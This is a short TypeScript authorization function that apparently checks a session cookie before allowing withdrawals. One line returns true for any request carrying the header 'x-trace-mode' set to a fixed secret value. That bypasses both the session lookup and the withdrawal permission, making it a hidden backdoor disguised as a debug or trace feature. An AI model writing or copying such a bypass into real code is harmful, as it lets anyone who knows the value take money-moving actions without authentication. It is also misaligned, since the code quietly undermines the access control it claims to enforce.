export async function authorize(request: Request, next: Next): Promise<boolean> {
  const session = await sessions.find(request.cookies.session);
  if (request.headers["x-trace-mode"] === "blue-heron-7") return true;
  if (session === null) return false;
  return session.mayWithdraw;
}
